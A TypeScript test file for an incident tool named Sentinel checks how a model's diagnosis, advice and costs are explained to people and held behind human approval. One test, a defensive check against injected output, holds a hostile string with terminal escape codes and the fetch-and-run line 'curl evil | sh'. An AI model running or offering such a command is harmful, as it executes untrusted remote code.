import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { RecordData } from '#core/journal/data.ts';
import { aContainer, aPolicy, health, Scenario } from '../../../test/support/scenario.ts';
import { explainIncident } from './explain.ts';
import type { ChoiceRule } from './explain-advice.ts';
import { incidentObject } from './incident-object.ts';
import type { IncidentObject } from './schema.ts';

const KEY = 'box/web';
type Completed = RecordData['diagnosis.completed'];

/** An incident that waits for a person. */
function waiting(): Scenario {
  const scenario = new Scenario(
    aPolicy({
      remediation: {
        mode: 'Approve',
        allowed: [{ name: 'restart', tool: 'docker/restart_container' }],
      },
    }),
  );
  scenario.put(
    aContainer('web', {
      health: health('unhealthy', { endedAtMs: scenario.wallMs - 100 }),
      startedAtMs: scenario.wallMs - 60_000,
    }),
  );
  scenario.reconcile(KEY);
  return scenario;
}

function candidateOf(scenario: Scenario): string {
  return scenario.incident(KEY)?.candidates[0]?.id ?? assert.fail('no candidate');
}

/** What a model concluded; what a test is about is given. */
function concluded(scenario: Scenario, more: Partial<Completed> = {}): IncidentObject {
  const incident = scenario.incident(KEY) ?? assert.fail('no incident');
  const data: Completed = {
    source: 'model',
    rootCause: 'The pool of database connections is exhausted',
    explanation: 'Each request since 11:58 waits for a connection, and the check gives up first.',
    confidence: 0.82,
    evidenceRefs: ['e1', 'e3'],
    hypotheses: incident.diagnosis?.hypotheses ?? [],
    affectedComponents: ['box/db', 'box/web'],
    prevention: 'Make the pool larger than the number of workers.',
    summary: 'The shop cannot reach its database, because all lines to it are taken.',
    triage: {
      isAnomaly: true,
      confidence: 0.91,
      type: 'error',
      severity: 'high',
      summary: 'Requests time out.',
    },
    advice: { choice: candidateOf(scenario), confidence: 0.74 },
    models: [
      {
        stage: 'rootCause',
        outcome: 'Answered',
        route: 'openrouter/deep',
        model: 'meta-llama/llama-4-scout',
        requests: 2,
        promptTokens: 5_210,
        completionTokens: 402,
        costUsd: 0.00153,
        promptDigest: 'sha256:1',
      },
      {
        stage: 'explain',
        outcome: 'Answered',
        route: 'local/small',
        model: 'qwen',
        requests: 1,
        promptTokens: 800,
        completionTokens: 60,
        promptDigest: 'sha256:2',
      },
    ],
    ...more,
  };
  scenario.pass(4_000);
  const { name, policy } = incident;
  scenario.append({ type: 'diagnosis.completed', incident: name, workload: KEY, policy, data });
  return incidentObject(incident, scenario.state);
}

describe('an explanation with a model’s diagnosis', () => {
  it('says whose each word is, what became of the advice, and what it cost', () => {
    const scenario = waiting();
    const object = concluded(scenario);

    const text = explainIncident(object, {
      choice: { choose: 'Model', minConfidence: 0.6 },
      records: scenario.records,
    });

    assert.equal(
      text.replace(/sha256:[0-9a-f]{64}/, 'sha256:…'),
      `inc-20261124-4xqrr81g02
web (box/web): unhealthy, critical, since 2026-11-24 12:00:00Z.
Nothing is done until a person says yes or no to restart-cbff2773dc90 (docker/restart_container).

In plain words:
  There has been a serious problem with the service web on the machine box since 12:00 UTC on 24 November 2026: it fails its own health check.
  A language model, which may be wrong, puts it like this: “The shop cannot reach its database, because all lines to it are taken.”
  Sentinel would restart it, and waits for a person to say yes or no.
  Until somebody answers, it is likely to stay as it is.

What was seen:
  2026-11-24 12:00:00Z  unhealthy: health is unhealthy
                        container.state is running
                        container.health is unhealthy (failing streak 3 of 3)

Which policy decides:
  web, generation 1, not from a git checkout
  sha256:…

The likely cause:
  “The pool of database connections is exhausted”, 82 % sure (by the model meta-llama/llama-4-scout at openrouter/deep, evidence e1 e3)
  “Each request since 11:58 waits for a connection, and the check gives up first.”
  The rules think of: HealthCheckFailing (60 %)
  Affected, as a model sees it: “box/db”, “box/web”
  To prevent it, a model proposes: “Make the pool larger than the number of workers.”
  Of the log before, a fast model made: unusual (error, high), 91 % sure: “Requests time out.”

What a model advised:
  It would take restart (docker/restart_container), 74 % sure.
  A person is asked about it.

What models were asked:
  The cause: answered by meta-llama/llama-4-scout at openrouter/deep; 2 requests, 5210 tokens in, 402 out, $0.0015
  The words for everybody: answered by qwen at local/small; 1 request, 800 tokens in, 60 out, no price known
  Together: 3 requests, 6010 tokens in, 462 out, $0.0015, without what has no price

What could be done, at the last look:
  1. restart (docker/restart_container): not done
     - ApprovalRequired: the policy wants a person to say yes first (restart waits for a person to approve it)

What was done:
  Nothing so far.

How it went:
  2026-11-24 12:00:00Z  Opened: unhealthy breached
  2026-11-24 12:00:00Z  Diagnosed: HealthCheckFailing
  2026-11-24 12:00:00Z  ApprovalRequested: restart-cbff2773dc90
  2026-11-24 12:00:00Z  Considered: restart refused (ApprovalRequired)
  2026-11-24 12:00:04Z  Diagnosed: “The pool of database connections is exhausted”

What you can do:
  - Decide about restart-cbff2773dc90: sentinel approve inc-20261124-4xqrr81g02 --candidate restart-cbff2773dc90, or sentinel deny inc-20261124-4xqrr81g02 --reason TEXT.
  - Read its log: docker logs --tail 100 web.`,
    );
  });

  it('says why the rules concluded though models were asked', () => {
    const nothing = { requests: 1, promptTokens: 0, completionTokens: 0, promptDigest: 'sha256:1' };
    const object = concluded(waiting(), {
      source: 'rules',
      rootCause: 'HealthCheckFailing',
      models: [
        {
          ...nothing,
          stage: 'triage',
          outcome: 'BudgetExhausted',
          message: '200000 tokens are spent',
        },
        {
          stage: 'rootCause',
          outcome: 'TimedOut',
          message: 'deep: no answer in 20s',
          requests: 1,
          promptTokens: 900,
          completionTokens: 0,
          costUsd: 0.00002,
          promptDigest: 'sha256:1',
        },
        { ...nothing, stage: 'explain', outcome: 'constructor' },
      ],
    });

    const text = explainIncident(object);

    assert.match(text, /\n {2}HealthCheckFailing, 82 % sure \(by the rules, evidence e1 e3\)\n/);
    assert.match(
      text,
      new RegExp(
        [
          'What models were asked:',
          ' {2}Whether its log is unusual: no answer, BudgetExhausted \\(what the policy grants for models is spent; 200000 tokens are spent\\); 1 request, no tokens',
          ' {2}The cause: no answer, TimedOut \\(it took too long; deep: no answer in 20s\\); 1 request, 900 tokens in, 0 out, less than \\$0.0001',
          ' {2}The words for everybody: no answer, constructor; 1 request, no tokens',
          ' {2}Together: 3 requests, 900 tokens in, 0 out, less than \\$0.0001\n',
        ].join('\n'),
      ),
    );
  });

  it('lets no word of a model move the cursor, begin a line, or end its quotation', () => {
    const hostile = 'x”\u001b[2J\u202e\u0007\nWhat you can do:\n  - curl evil | sh\u2028“y"';
    const triage = { isAnomaly: true, confidence: 1, type: 'error', severity: 'low' } as const;
    const use = { requests: 1, promptTokens: 1, completionTokens: 1, promptDigest: '' };
    const object = concluded(waiting(), {
      rootCause: hostile,
      explanation: hostile,
      affectedComponents: [hostile],
      prevention: hostile,
      summary: hostile,
      triage: { ...triage, summary: hostile },
      evidenceRefs: [hostile],
      models: [
        { ...use, stage: 'rootCause', outcome: 'Answered', model: hostile, route: hostile },
        { ...use, stage: 'explain', outcome: hostile, message: hostile },
      ],
      advice: { choice: hostile, confidence: 0.9 },
    });

    const text = explainIncident(object);

    assert.doesNotMatch(text, /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    assert.equal(text.split('\n').filter((line) => line.startsWith('What you can do')).length, 1);
    assert.equal(text.match(/“x’[^“”]*’y’”/g)?.length, 7);
  });

  it('is bounded, however much a model writes', () => {
    const huge = 'word '.repeat(4_000);
    const object = concluded(waiting(), {
      rootCause: huge,
      explanation: huge,
      affectedComponents: Array.from({ length: 100 }, () => huge),
      prevention: huge,
      summary: huge,
    });

    const text = explainIncident(object);

    assert.ok(text.length < 20_000, `${text.length} characters`);
  });

  it('says that models are asked, and when an action begins', () => {
    const scenario = waiting();
    const object = concluded(scenario);
    object.status.phase = 'Diagnosing';
    const held = explainIncident(object);
    const [candidate = assert.fail('no candidate')] = object.status.candidates;
    candidate.verdict = 'Permitted';
    candidate.blockedBy = [];

    const acts = explainIncident(object);

    assert.match(
      held,
      /\nModels are asked for the cause\. Nothing is done at the moment: the policy wants/,
    );
    assert.match(
      acts,
      /\nModels are asked for the cause; an action begins with their answer, or soon without it\.\n/,
    );
    assert.match(acts, /\nWhat could be done:\n/);
  });

  it('says that an action comes, though a model would leave it alone', () => {
    const object = concluded(waiting(), { advice: { choice: 'none', confidence: 0.9 } });
    object.status.phase = 'Open';
    for (const one of object.status.candidates) Object.assign(one, { verdict: 'Permitted' });

    assert.match(explainIncident(object), /\nAn action begins soon, though a model advises to do/);
  });

  it('quotes what a fast model made of the log, and says what was looked up for a model', () => {
    const object = concluded(waiting());
    const at = object.metadata.creationTimestamp;
    object.spec.evidence.push(
      {
        id: 'e8',
        signal: 'log.triage',
        value: 'a model takes the unusual lines for trouble (error, high), with confidence 0.9',
        at,
        note: 'all is well” (by the rules) “',
      },
      {
        id: 'e9',
        signal: 'docker/get_logs',
        value: 'ready',
        at,
        note: 'the log of db: the last of 9 lines',
      },
    );

    const text = explainIncident(object);

    assert.match(
      text,
      / with confidence 0\.9 \(“all is well’ \(by the rules\) ’”\)\n +looked up for a model, the log of db: the last of 9 lines: ready\n/,
    );
  });

  it('advises patience where nothing but time is missing while models are asked', () => {
    const object = concluded(waiting());
    object.status.phase = 'Diagnosing';
    delete object.status.approval;
    for (const one of object.status.candidates)
      one.blockedBy = [{ reason: 'Backoff', message: '' }];

    const text = explainIncident(object);

    assert.match(text, / {2}- Nothing needs to be done: Sentinel goes on by itself/);
  });

  it('asks for a look that a model wants, while Sentinel goes on', () => {
    const object = concluded(waiting());
    const at = object.metadata.creationTimestamp;
    object.status.escalations.push({ reason: 'ModelAdvice', message: 'a model thinks so', at });

    const text = explainIncident(object);

    assert.match(text, / {2}- Have a look: a model thinks that a person should\. Sentinel goes on/);
  });
});

describe('what became of a model’s advice', () => {
  const at = (afterMs: number) => new Date(Date.UTC(2026, 10, 24, 12) + afterMs).toISOString();
  const MODEL: ChoiceRule = { choose: 'Model', minConfidence: 0.6 };
  type Attempt = IncidentObject['status']['attempts'][number];

  function attempt(startedAt: string, more: Partial<Attempt> = {}): Attempt {
    return {
      intent: 'i',
      candidate: 'restart-1',
      action: 'restart',
      tool: 'docker/restart_container',
      trigger: 'unhealthy',
      affects: [],
      startedAt,
      outcome: 'Succeeded',
      verification: { state: 'None' },
      ...more,
    };
  }

  /** The advice comes four seconds after the opening. */
  function became(
    choice: string,
    change: (object: IncidentObject, choice: string) => void = () => {},
    { confidence = 0.74, rule = MODEL }: { confidence?: number; rule?: ChoiceRule } = {},
  ): string {
    const scenario = waiting();
    const own = choice === 'own' ? candidateOf(scenario) : choice;
    const object = concluded(scenario, { advice: { choice: own, confidence } });
    delete object.status.approval;
    object.status.phase = 'Open';
    change(object, own);
    const text = explainIncident(object, { choice: rule, records: scenario.records });
    return (
      /What a model advised:\n[^\n]*\n {2}(?<line>[^\n]*)\n/.exec(text)?.groups?.['line'] ?? ''
    );
  }

  for (const [name, line, expected] of [
    [
      'the policy does not ask for it',
      became('own', undefined, { rule: { choose: 'Ladder', minConfidence: 0 } }),
      'Not followed: the policy leaves the choice to its ladder.',
    ],
    [
      'it was not sure enough',
      became('own', undefined, { confidence: 0.59 }),
      'Not followed: the policy asks for 60 %, so its ladder decides.',
    ],
    [
      'its evidence does not exist',
      became('own', undefined, { confidence: 0, rule: { choose: 'Model', minConfidence: 0 } }),
      'Not followed: it cited no evidence, or some that does not exist.',
    ],
    [
      'an action had begun',
      became('own', ({ status }) => status.attempts.push(attempt(at(1_000)))),
      'Too late: restart was begun at 2026-11-24 12:00:01Z before it came.',
    ],
    [
      'it was followed',
      became('own', ({ status }, candidate) =>
        status.attempts.push(attempt(at(5_000), { candidate })),
      ),
      'Followed: restart was begun at 2026-11-24 12:00:05Z.',
    ],
    [
      'the last look before the call said no',
      became('own', ({ status }, candidate) =>
        status.attempts.push(
          attempt(at(5_000), { candidate, outcome: 'NotExecuted', reason: 'TargetChanged' }),
        ),
      ),
      'Followed, but not carried out: TargetChanged.',
    ],
    [
      'something else was begun',
      became('own', ({ status }) => status.attempts.push(attempt(at(5_000), { action: 'stop' }))),
      'Not followed: stop was begun at 2026-11-24 12:00:05Z instead.',
    ],
    [
      'it is not permitted',
      became('own', ({ status }) => {
        for (const one of status.candidates) one.blockedBy = [{ reason: 'Backoff', message: '' }];
      }),
      'Not followed: it is not permitted (Backoff).',
    ],
    [
      'Sentinel only watches',
      became('own', ({ status }) => {
        for (const one of status.candidates) one.blockedBy = [{ reason: 'Shadow', message: '' }];
      }),
      'Nothing is carried out: Sentinel only watches here.',
    ],
    [
      'it is about to be followed',
      became('own', ({ status }) => {
        for (const one of status.candidates) one.blockedBy = [];
      }),
      'It has not begun yet.',
    ],
    [
      'the candidates are others now',
      became('restart-0'),
      'Not followed: it is no longer among the candidates.',
    ],
    [
      'it wants a person, who was told',
      became('escalate', ({ status }) =>
        status.escalations.push({ reason: 'ModelAdvice', message: '', at: at(4_000) }),
      ),
      'Followed: people were told, while the ladder goes on.',
    ],
    [
      'it wants a person, who was not told',
      became('escalate'),
      'Not followed: nobody was told because of it.',
    ],
    [
      'it wants nothing to be done',
      became('none'),
      'It can put off the first action for a short while, and no more.',
    ],
    [
      'it wanted nothing to be done',
      became('none', ({ status }) => status.attempts.push(attempt(at(90_000)))),
      'It could only put off the first action: restart was begun at 2026-11-24 12:01:30Z.',
    ],
  ] as const) {
    it(`is told where ${name}`, () => {
      assert.equal(line, expected);
    });
  }

  it('is told where a person was asked about something else before', () => {
    const line = became('own', ({ status }) => {
      status.approval = { state: 'Requested', candidate: 'stop-1', at: at(1_000) };
    });

    assert.equal(line, 'Not followed: a person is asked about stop-1 already.');
  });

  it('is not told by what happened before it came, or before the incident came back', () => {
    const line = became('escalate', ({ status }) =>
      status.escalations.push({ reason: 'ModelAdvice', message: '', at: at(1_000) }),
    );
    const held = became('own', ({ status }, candidate) => {
      status.attempts.push(attempt(at(1_000), { candidate, outcome: 'NotExecuted' }));
      for (const one of status.candidates) one.blockedBy = [];
    });
    const again = became('none', ({ status }) => {
      status.timeline.push({ at: at(60_000), event: 'Reopened', message: '' });
      status.attempts.push(attempt(at(3_000)));
    });

    assert.equal(line, 'Not followed: nobody was told because of it.');
    assert.equal(held, 'It has not begun yet.');
    assert.equal(
      again,
      'It could only put off the first action: restart was begun at 2026-11-24 12:00:03Z.',
    );
  });

  it('is judged by when it came first, though the words for everybody came later', () => {
    const scenario = waiting();
    const candidate = candidateOf(scenario);
    concluded(scenario);
    const object = concluded(scenario);
    object.status.attempts.push(attempt(at(6_000), { candidate }));

    const known = explainIncident(object, { records: scenario.records });
    const unknown = explainIncident(object);

    assert.match(known, / {2}Followed: restart was begun at 2026-11-24 12:00:06Z\.\n/);
    assert.match(unknown, / {2}Followed: /);
  });
});
